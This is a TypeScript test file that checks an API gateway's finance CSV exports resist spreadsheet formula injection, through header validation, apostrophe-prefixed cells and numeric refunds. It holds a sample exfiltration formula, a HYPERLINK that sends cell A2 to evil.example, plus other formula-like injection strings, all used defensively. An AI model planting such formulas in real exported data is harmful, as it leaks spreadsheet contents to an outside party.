import { beforeAll, describe, expect, inject, it } from 'vitest';
import { statementEntriesRoute } from '../../../functions/billing/routes';
import { answerTo, issuedCredentialOf, problemOf } from '../../support/answers';
import { createTestGateway, type TestGateway } from '../../support/gateway';

/**
 * Finance opens the gateway's CSV exports in a spreadsheet. A cell that callers (Idempotency-Key), admins (agency
 * names) or finance can influence must never reach it as a live formula (OWASP's CSV injection advice).
 */
const clock = new Date('2026-11-20T03:00:00Z');
const HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Click for refund")';
const AN = '001099012345';

let gw: TestGateway;
let agency: { agencyId: string; clientId: string; clientSecret: string };
let caller: string;
let finance: string;

const lookup = (headers: Record<string, string>) =>
  gw.call(caller, 'GET', `/v1/citizens/${AN}?fields=fullName`, undefined, {
    'X-Purpose': '1.001',
    ...headers,
  });

const csv = async (path: string) => {
  const response = await gw.call(finance, 'GET', path, undefined, { Accept: 'text/csv' });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  return (await response.text()).replace(/^\uFEFF/, '');
};

/** The cells of an RFC 4180 text as a spreadsheet reads them: quotes removed, doubled quotes undone. */
function cells(text: string): string[] {
  return [...text.matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^,\r\n]*)/g)].map(([, cell = '']) =>
    cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell,
  );
}

/** What a spreadsheet would run: text starting with = + - @ (after spaces), a tab or a CR; plain numbers aside. */
const formulas = (text: string) =>
  cells(text).filter((cell) => /^\s*[=+\-@]|^[\t\r]/.test(cell) && !/^-?\d+$/.test(cell));

beforeAll(async () => {
  gw = await createTestGateway(inject('dynamoEndpoint'), { now: () => clock });
  const admin = await gw.adminToken();
  // An admin can name an agency anything: here, what a hostile insider would.
  agency = await gw.agencyWithCredential({
    code: 'CSV-AG',
    name: HYPERLINK,
    entitlements: [{ operation: 'citizen:read', purposes: ['1.001'] }],
    scopes: ['citizen:read'],
  });
  await gw.plan('CSV', { agencies: [agency.agencyId] });
  caller = await gw.token(agency.clientId, agency.clientSecret);
  const issued = await gw.call(admin, 'POST', '/admin/agencies/ag_platform/credentials', {
    scopes: ['billing:read', 'billing:close'],
  });
  const fin = await issuedCredentialOf(issued);
  finance = await gw.token(fin.clientId, fin.clientSecret);
});

describe('Idempotency-Key', () => {
  it('refuses a key outside letters, digits and . _ : - with a 400 naming the header, metering nothing', async () => {
    const before = await gw.counters(agency.agencyId);
    for (const key of [HYPERLINK, '+1+1', '@SUM(A1:A9)', 'two words', 'quote"d', 'k/1', 'x'.repeat(129)]) {
      const response = await lookup({ 'Idempotency-Key': key });
      expect(response.status, key).toBe(400);
      expect(response.headers.get('content-type')).toBe('application/problem+json');
      const problem = await problemOf(response, 400);
      expect(problem.title).toBe('Request validation failed');
      expect(problem.detail).toContain('Idempotency-Key');
      expect(problem.detail).toContain('letters, digits, dot, underscore, colon or dash');
    }
    expect(await gw.counters(agency.agencyId)).toEqual(before);
  });

  it('accepts the keys clients make: UUIDs, ULIDs, base64url and dotted or colon-separated names', async () => {
    for (const key of [
      crypto.randomUUID(),
      '01ARZ3NDEKTSV4RRFFQ69G5FAV',
      '-mF_3xq9Zk2pLw8vT0aYbQ',
      'order:2026.11.20_retry-1',
      'x'.repeat(128),
    ]) {
      expect((await lookup({ 'Idempotency-Key': key })).status, key).toBe(200);
    }
  });
});

describe("finance's CSV exports", () => {
  it('lists an Idempotency-Key that starts like a formula as text in the entries CSV', async () => {
    // Within the allowed characters a key can still start with "-": -A2:B9 is a live formula in a spreadsheet.
    expect((await lookup({ 'Idempotency-Key': '-A2:B9' })).status).toBe(200);
    const text = await csv(`/billing/statements/2026-11/entries?agency=${agency.agencyId}&limit=1000`);
    expect(text).toContain(`,"'-A2:B9"\r\n`);
    expect(formulas(text)).toEqual([]);
    // The JSON is data, not a spreadsheet: the key as sent.
    const json = await gw.call(
      finance,
      'GET',
      `/billing/statements/2026-11/entries?agency=${agency.agencyId}`,
    );
    const { items } = await answerTo(json, statementEntriesRoute);
    expect(items.map((e) => e.idempotencyKey)).toContain('-A2:B9');
  });

  it("lists an admin's formula in an agency name as text in the statement CSV, and a refund as a number", async () => {
    const call = await lookup({});
    expect(call.status).toBe(200);
    const refund = await gw.call(finance, 'POST', '/billing/reversals', {
      agencyId: agency.agencyId,
      period: '2026-11',
      requestId: call.headers.get('x-request-id'),
      reason: 'Dữ liệu sai do lỗi đồng bộ',
    });
    expect(refund.status).toBe(201);

    const text = await csv(`/billing/statements/2026-11?agency=${agency.agencyId}`);
    const [first = ''] = text.split('\r\n');
    expect(first).toBe(
      `Bảng kê / Statement,2026-11,Cơ quan / Agency,"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click for refund"")",${agency.agencyId}`,
    );
    expect(formulas(text)).toEqual([]);
    // The gateway computes the refund: -500 stays a number a spreadsheet adds up, not text.
    expect(text).toMatch(/\r\nĐiều chỉnh \/ Adjustment 2026-11,citizen:read,[^\r\n]*,-1,,,-500\r\n/);
  });
});
